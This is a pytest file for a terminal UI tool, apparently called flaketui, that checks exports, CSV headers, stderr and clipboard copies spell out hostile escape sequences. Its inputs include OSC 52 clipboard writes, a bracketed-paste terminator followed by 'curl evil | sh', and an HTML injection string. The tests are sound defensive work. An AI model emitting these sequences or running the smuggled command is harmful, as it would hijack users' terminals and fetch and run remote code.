"""Escape sequences that could reach the terminal, each tried with the hostile corpus:
``triage export`` Markdown (notes, labels' neighbours, names), the trial CSV's header (metric
names), a file name echoed on stderr, and the id ``y`` copies."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from flaketui.app.app import make_app
from flaketui.cli import main
from flaketui.sanitize import visible
from flaketui.triage import TriageKey, TriageStore
from tests.conftest import SIZE
from tests.helpers.hostile import HOSTILE_NAMES, HOSTILE_RUNS, markdown_read, raw_controls, write_hostile_log

PASTE_END = "\x1b[201~"
"""The bracketed-paste terminator: pasted raw, what follows it runs as typed commands."""


def invoke(*args: object) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, [str(a) for a in args])
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def test_triage_export_markdown_spells_out_notes_and_names(tmp_path: Path) -> None:
    """triage export's Markdown spells out control characters in notes and names."""
    log = write_hostile_log(tmp_path / "hostile.jsonl")
    sidecar = tmp_path / "notes.triage.json"
    store = TriageStore.open(sidecar)
    for run in HOSTILE_RUNS:
        for task in HOSTILE_NAMES:
            store.update(TriageKey(run, task), note=f"note {task} \x1b]52;c;ZXZpbA==\x07 {PASTE_END}",
                         reviewed=True)
        store.update(TriageKey(run, "\x1b]0;gone\x07"), note="\x1b[2J other")  # not in the log
    code, out, err = invoke("triage", "export", log, "--triage", sidecar)
    assert code == 0, err
    assert raw_controls(out) == [] and raw_controls(err) == []
    read = markdown_read(out)  # Markdown escapes undone: what a reader of the rendered comment sees
    assert "\\x1b]52;c;ZXZpbA==\\x07" in read and "\\x1b[201~" in read
    assert "\\x1b]0;gone\\x07" in read  # the other notes too


def test_triage_export_names_a_hostile_file_spelled_out(tmp_path: Path) -> None:
    """``no triage notes at …``: the sidecar's name comes from the log's name."""
    folder = tmp_path / "runs"
    folder.mkdir()
    log = write_hostile_log(folder / "r\x1b]0;pwned\x07.jsonl")
    code, _, err = invoke("triage", "export", log)
    assert code == 0
    assert raw_controls(err) == [] and "no triage notes at" in err and "\\x1b]0;pwned\\x07" in err


@pytest.mark.parametrize("raw", [False, True])
def test_the_trial_csv_header_spells_out_metric_names(tmp_path: Path, raw: bool) -> None:
    """The trial CSV header spells out control characters in metric names."""
    log = tmp_path / "metrics.jsonl"
    metrics = {"m \x1b[2J": 1.0, "cr\rname": 2.0, "osc\x1b]52;c;AAAA\x07": 3.0}
    log.write_text("".join(json.dumps({"task": name, "trial": t, "passed": t % 2 == 0, "metrics": metrics}) + "\n"
                           for name in HOSTILE_NAMES for t in range(2)))
    out_file = tmp_path / "trials.csv"
    args = ["export", log, "--format", "csv", "--out", out_file] + (["--raw"] if raw else [])
    code, _, err = invoke(*args)
    assert code == 0, err
    text = out_file.read_bytes().decode("utf-8")
    header = next(csv.reader(io.StringIO(text, newline="")))
    if raw:  # --raw to a file: the names as they are, a CR quoted
        assert {"metric_m \x1b[2J", "metric_cr\rname"} <= set(header)
        assert len(list(csv.reader(io.StringIO(text, newline="")))) == 1 + 2 * len(HOSTILE_NAMES)
        return
    assert raw_controls(text) == []
    assert {"metric_m \\x1b[2J", "metric_cr\\x0dname", "metric_osc\\x1b]52;c;AAAA\\x07"} <= set(header)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 2 * len(HOSTILE_NAMES)  # a CR in the header split no row


def test_the_trial_csv_on_a_terminal_spells_out_the_header_even_raw(tmp_path: Path) -> None:
    """On a terminal the trial CSV's header is spelled out even with --raw."""
    from flaketui.loading import load_logs
    from flaketui.output.trials import trials_csv_chunks

    log = tmp_path / "metrics.jsonl"
    log.write_text(json.dumps({"task": "a", "passed": True, "metrics": {"m \x1b[2J": 1.0}}) + "\n")
    text = "".join(trials_csv_chunks(load_logs([log], use_cache=False), raw=True, terminal=True))
    assert raw_controls(text) == [] and "metric_m \\x1b[2J" in text


@pytest.mark.ui
@pytest.mark.slow
async def test_y_copies_the_visible_form_of_a_hostile_id(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """y copies the visible form of a hostile task id."""
    log = tmp_path / "paste.jsonl"
    evil = f"task{PASTE_END}; curl evil | sh\n"
    log.write_text("".join(json.dumps({"task": name, "trial": t, "passed": t == 0}) + "\n"
                           for name in [evil, *HOSTILE_NAMES] for t in range(2)))
    app = make_app([str(log)], k=2, triage=str(tmp_path / "notes.triage.json"))
    copied: list[str] = []
    monkeypatch.setattr(app, "copy_to_clipboard", copied.append)
    async with app.run_test(size=SIZE) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        screen = app.tasks_screen
        assert screen.stats is not None
        for _ in range(len(screen.stats.tasks)):
            await pilot.press("y", "down")
            await pilot.pause()
        shown = {visible(t) for t in screen.stats.tasks}
        assert copied and set(copied) <= shown
        assert all(raw_controls(c) == [] for c in copied)
        assert visible(evil) in copied


def test_diff_step_ids_from_the_log_are_escaped(tmp_path: Path) -> None:
    """A harness step id holding an escape sequence, markup and a pipe: diff's text has no raw control, its Markdown no raw HTML or cell break."""
    step_id = "S\x1b[2J<img src=x>|@all"
    log = tmp_path / "steps.jsonl"
    log.write_text("".join(json.dumps({"task_id": "a", "trial": j, "passed": j == 0,
                                       "trace": [{"step_id": step_id, "role": "assistant", "content": "hi"},
                                                 {"step_id": 2, "role": "assistant", "content": f"x{j}"}]}) + "\n"
                           for j in range(2)))
    code, out, _ = invoke("diff", log, "--task", "a", "--trials", 0, 1)
    assert code == 0 and raw_controls(out) == [] and visible(step_id) in out
    code, out, _ = invoke("diff", log, "--task", "a", "--trials", 0, 1, "--format", "markdown")
    assert code == 0 and raw_controls(out) == [] and "<img" not in out and "|@all" not in out
